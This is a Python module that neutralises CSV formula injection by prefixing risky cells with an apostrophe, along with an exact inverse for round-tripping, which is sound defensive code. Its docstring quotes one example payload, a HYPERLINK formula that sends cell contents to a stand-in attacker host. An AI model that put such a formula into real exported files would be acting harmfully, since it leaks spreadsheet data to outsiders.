"""Spreadsheet cells that cannot execute: the CSV prefix rule and its exact inverse.

A spreadsheet treats a CSV cell beginning with = + - @ (and, in some, tab or carriage return) as a
formula: a note such as =HYPERLINK("http://evil.example/?"&A1) would run in the reader's Excel.
OWASP's advice is to write such a cell with a leading apostrophe, which spreadsheets show as text.
So that an import gives back exactly what was exported, a text that already begins with an
apostrophe gets one too, and the import removes one apostrophe only where the export would have
added it: "=x" → "'=x" → "=x", "'x" → "''x" → "'x", while a hand-typed "'x" stays "'x".
XLSX needs none of this: its cells are written typed as text, never as formulas.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"


def neutralised(text: str) -> str:
    """The text as a CSV cell: prefixed with ' when a spreadsheet would run it or strip our prefix."""
    return PREFIX + text if text.startswith((*FORMULA_STARTS, PREFIX)) else text


def unneutralised(text: str) -> str:
    """The exact inverse of `neutralised` for what it produced."""
    if text.startswith(PREFIX) and text[1:].startswith((*FORMULA_STARTS, PREFIX)):
        return text[1:]
    return text
